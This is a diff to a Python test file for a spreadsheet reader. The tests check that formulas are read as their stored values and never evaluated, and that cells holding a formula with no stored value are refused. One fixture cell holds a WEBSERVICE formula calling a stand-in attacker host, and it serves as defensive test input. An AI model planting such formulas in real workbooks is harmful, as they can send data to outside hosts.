@@ -82,10 +82,46 @@ def test_a_text_stays_a_text_whatever_it_begins_with(text: str) -> None:
     assert filled(data, 2)[1] == [text]
 
 
-def test_a_formula_of_somebody_else_is_read_as_words_and_never_worked_out() -> None:
-    assert filled(book(["=1+1", '=WEBSERVICE("http://evil.example")']), 1) == [
-        ["=1+1", '=WEBSERVICE("http://evil.example")'],
-    ]  # fmt: skip
+def calculated(cells: str) -> bytes:
+    """A workbook as an office program keeps it: formulas with the values they had."""
+    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{cells}</sheetData></worksheet>'
+    return with_part(book(["x"]), "xl/worksheets/sheet1.xml", sheet.encode())
+
+
+def test_a_formula_is_read_as_the_value_kept_with_it_and_never_worked_out() -> None:
+    data = calculated(
+        '<row r="1"><c r="A1"><f>1+1</f><v>7</v></c><c r="B1" t="str"><f>WEBSERVICE("http://evil.example")</f><v>めっき</v></c>'
+        '<c r="C1" t="str"><f>IF(D1="","",D1)</f><v></v></c><c r="D1" t="b"><f>TRUE()</f><v>1</v></c>'
+        '<c r="E1" t="e"><f>1/0</f><v>#DIV/0!</v></c><c r="F1" t="inlineStr"><is><t>=1+1</t></is></c></row>'
+    )
+    assert filled(data, 1) == [["7", "めっき", None, "True", "#DIV/0!", "=1+1"]]
+
+
+@pytest.mark.parametrize(
+    ("cells", "named"),
+    [
+        ('<row r="2"><c r="B2"><f>1+1</f></c></row>', "（B2）"), ('<row r="2"><c r="B2"><f>1+1</f><v/></c><c r="C2"><v>1</v></c></row>', "（B2）"),
+        ('<row r="1"><c r="A1"><f>1</f><v>0</v></c></row><row r="3"><c r="A3"><f>1</f></c><c r="AB3"><f>2</f></c></row>', "（A3、AB3）"),
+        ('<row r="1">' + "".join(f'<c r="{name}1"><f>1</f></c>' for name in "ABCDEFG") + "</row>", "（A1、B1、C1、D1、E1ほか2か所）"),
+    ],
+)  # fmt: skip
+def test_a_formula_without_a_value_is_named_by_its_cell(cells: str, named: str) -> None:
+    with pytest.raises(Refused) as refused:
+        read_sheet(calculated(cells), most_rows=10)
+    assert (refused.value.code, refused.value.field, named in refused.value.message) == ("no_value", "file", True)
+    assert "保存し直す" in refused.value.message
+
+
+def test_what_lies_outside_the_rows_and_columns_that_are_read_is_not_asked_for() -> None:
+    far = '<row r="1"><c r="A1"><v>1</v></c><c r="ZZ1"><f>1</f></c></row>'
+    assert filled(calculated(far), 1) == [["1"]]
+
+
+def test_a_formula_is_seen_across_two_pieces_and_in_another_prefix(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(sheets, "_PIECE", 3)
+    assert code_of(calculated('<row r="1"><c r="A1"><f>1</f></c></row>')) == "no_value"
+    assert code_of(calculated('<row r="1"><c r="A1"><x:f xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main">1</x:f></c></row>')) == "no_value"
+    assert filled(book(["f", "<f>", "=1"[1:]]), 1) == [["f", "<f>", "1"]]
 
 
 @pytest.mark.parametrize(
